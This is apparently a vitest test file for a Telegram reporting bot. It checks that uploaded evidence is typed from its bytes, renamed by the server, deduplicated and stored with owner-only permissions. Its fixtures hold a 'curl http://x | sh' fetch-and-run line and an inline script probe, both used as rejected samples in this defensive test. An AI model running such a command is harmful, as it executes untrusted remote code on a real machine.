// Evidence files as the server keeps them: the type from the bytes (a script named .jpg is
// refused), the name and extension chosen by the server, the same file twice counted once,
// and files readable by the bot's user only.
import { mkdtempSync, readdirSync, statSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FileFetcher } from '../../../bot/app/dialogue-port.ts';
import { createApp, type App } from '../../../bot/app/create-app.ts';
import { createInvite } from '../../../bot/app/admin/create-invite.ts';
import { seedDemo } from '../../../bot/app/admin/seed-demo.ts';
import { createFileEvidenceStore } from '../../../bot/db/file-evidence-store.ts';
import { silentLogger } from '../../../bot/platform/logger.ts';
import { createTelegramHarness, pngBytes } from '../../support/telegram-harness.ts';
import { availableProviders, createTestDatabase, type TestDatabase } from '../support/providers.ts';

const providers = await availableProviders();

const files: Record<string, Buffer> = {
  'same-photo': Buffer.concat([pngBytes, Buffer.from('one picture')]),
  'script-as-jpg': Buffer.from('#!/bin/sh\ncurl http://x | sh\n'),
  'pdf-as-sh': Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n'),
  'page-as-pdf': Buffer.from('<!doctype html><script>alert(1)</script>'),
};
const fetchFile: FileFetcher = async (content) => {
  const buffer = files[content.fileRef] ?? Buffer.concat([pngBytes, Buffer.from(content.fileRef)]);
  return { ok: true, value: { buffer, mime: content.fileKind === 'photo' ? 'image/jpeg' : 'image/jpeg', size: buffer.length } };
};

describe.each(providers)('evidence files on %s', (provider) => {
  let db: TestDatabase;
  let app: App;
  let dir: string;
  const now = new Date('2026-11-22T02:00:00Z');
  let tg: ReturnType<typeof createTelegramHarness>;

  beforeAll(async () => {
    db = await createTestDatabase(provider);
    await seedDemo(db.repos, now);
    dir = mkdtempSync(path.join(os.tmpdir(), 'egov-evf-'));
    app = createApp({
      repos: db.repos,
      logger: silentLogger(),
      clock: () => now,
      evidence: createFileEvidenceStore(dir),
      evidenceMaxBytes: 1 << 20,
      botUsername: 'egov_report_bot',
    });
    tg = createTelegramHarness(app.dialogue, () => now, { fetchFile });
    const unit = await app.deps.units.findByCode('X-THACHKIM');
    const { code } = await createInvite(app.deps.invites, { unitId: unit!.id, role: 'reporter', uses: 1, days: 7, createdById: null, now });
    await tg.text(1201, `/start ${code}`);
    await tg.text(1201, '/report');
    for (let i = 0; i < 5; i += 1) await tg.text(1201, '20');
    await tg.click(1201, 'c:head'); // now asks for its evidence
  });
  afterAll(async () => db.dispose());

  const evidenceRows = async () => {
    const unit = await app.deps.units.findByCode('X-THACHKIM');
    return db.prisma.evidence.findMany({ where: { submission: { unitId: unit!.id } }, orderBy: { createdAt: 'asc' } });
  };

  it('refuses a script named .jpg and a web page named .pdf, and keeps the question', async () => {
    const [script] = await tg.document(1201, 'anh-chup.jpg', 'script-as-jpg');
    expect(script?.text).toContain('Loại tệp này không được nhận');
    expect(script?.text).toContain('X-1.1');
    const [page] = await tg.document(1201, 'quyet-dinh.pdf', 'page-as-pdf');
    expect(page?.text).toContain('Loại tệp này không được nhận');
    expect(await evidenceRows()).toHaveLength(0);
  });

  it('names a file by the server: the extension of the type in its bytes, never the sender’s', async () => {
    const [ok] = await tg.document(1201, 'ke-hoach.sh', 'pdf-as-sh');
    expect(ok?.text).not.toContain('không được nhận');
    const [row] = await evidenceRows();
    expect(row?.mime).toBe('application/pdf');
    expect(row?.storedPath).toMatch(/X-1\.1-[0-9a-f]{16}\.pdf$/);
    expect(row?.fileName).toBe('ke-hoach.sh');
  });

  it('counts the same file sent twice once', async () => {
    await tg.photo(1201, 100, undefined);
    const before = (await evidenceRows()).length;
    const first = await tg.deliver({
      update_id: tg.nextUpdateId(),
      message: {
        message_id: 1,
        date: 0,
        chat: { id: 1201, type: 'private', first_name: 'x' },
        from: { id: 1201, is_bot: false, first_name: 'x' },
        photo: [{ file_id: 'same-photo', file_unique_id: 'a', width: 1, height: 1 }],
      },
    } as never);
    const again = await tg.deliver({
      update_id: tg.nextUpdateId(),
      message: {
        message_id: 2,
        date: 0,
        chat: { id: 1201, type: 'private', first_name: 'x' },
        from: { id: 1201, is_bot: false, first_name: 'x' },
        photo: [{ file_id: 'same-photo', file_unique_id: 'b', width: 1, height: 1 }],
      },
    } as never);
    expect(first[0]?.text).not.toContain('đã được nhận');
    expect(again[0]?.text).toContain('đã được nhận cho X-1.1');
    expect((await evidenceRows()).length).toBe(before + 1);
  });

  it('keeps files readable by the bot’s user only (files 0600, directories 0700)', () => {
    expect(statSync(dir).mode & 0o777).toBe(0o700);
    const [sub] = readdirSync(dir);
    expect(statSync(path.join(dir, sub!)).mode & 0o777).toBe(0o700);
    const stored = readdirSync(path.join(dir, sub!));
    expect(stored.length).toBeGreaterThan(0);
    for (const f of stored) expect(statSync(path.join(dir, sub!, f)).mode & 0o777).toBe(0o600);
  });
});
